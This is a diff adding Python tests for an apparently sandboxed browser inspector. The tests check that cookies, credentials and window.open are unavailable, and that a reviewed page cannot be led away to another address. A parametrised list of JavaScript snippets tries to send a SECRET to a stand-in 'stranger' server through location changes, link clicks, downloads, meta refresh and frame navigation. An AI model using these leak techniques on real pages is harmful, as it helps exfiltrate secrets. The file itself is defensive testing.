@@ -142,6 +142,56 @@ def test_peer_connections_are_gone(inspector: Inspector) -> None:
         assert worker.evaluate("typeof RTCPeerConnection") == "undefined"
 
 
+def test_what_no_policy_covers_is_gone(inspector: Inspector) -> None:
+    page = inspector.page
+    assert page.evaluate("typeof window.open") == "undefined"
+    assert page.evaluate("typeof navigator.credentials") == "undefined"
+    assert (
+        page.evaluate("() => { document.cookie = 'secret=1; max-age=99'; return typeof cookieStore; }") == "undefined"
+    )
+    assert page.context.cookies() == []
+
+
+# Each leads the page, or a file of it, to another address; the last is the page's own way of saving a report.
+DEPARTURES = {
+    "location": "url => { location.href = url; }",
+    "link": "url => Object.assign(document.createElement('a'), { href: url }).click()",
+    "download": "url => Object.assign(document.createElement('a'), { href: url, download: 'x' }).click()",
+    "refresh": """url => {
+        const meta = Object.assign(document.createElement('meta'), { httpEquiv: 'refresh', content: `0;url=${url}` });
+        document.head.append(meta);
+    }""",
+    "frame": """url => {
+        const frame = document.body.appendChild(document.createElement('iframe'));
+        frame.contentWindow.parent.location = url;
+    }""",
+    "reload": "() => location.reload()",
+}
+
+
+@pytest.mark.parametrize("departure", DEPARTURES)
+def test_page_is_not_led_away(
+    inspector: Inspector, site: Server, stranger: Server, sample: Path, departure: str
+) -> None:
+    inspector.review(sample)
+    address = inspector.page.url
+    before = len(site.requests), len(stranger.requests)
+    inspector.page.evaluate(DEPARTURES[departure], f"{stranger.origin}/leak/{departure}/{SECRET}")
+    inspector.page.wait_for_timeout(500)
+    assert (len(site.requests), len(stranger.requests)) == before
+    assert (inspector.page.url, inspector.state) == (address, "done")
+
+
+def test_what_is_in_memory_can_still_be_saved(inspector: Inspector) -> None:
+    save = """() => {
+        const href = URL.createObjectURL(new Blob(['report']));
+        Object.assign(document.createElement('a'), { href, download: 'report.txt' }).click();
+    }"""
+    with inspector.page.expect_download() as saved:
+        inspector.page.evaluate(save)
+    assert saved.value.suggested_filename == "report.txt"
+
+
 EARLY = payload(
     "early.zip",
     zip_bytes(
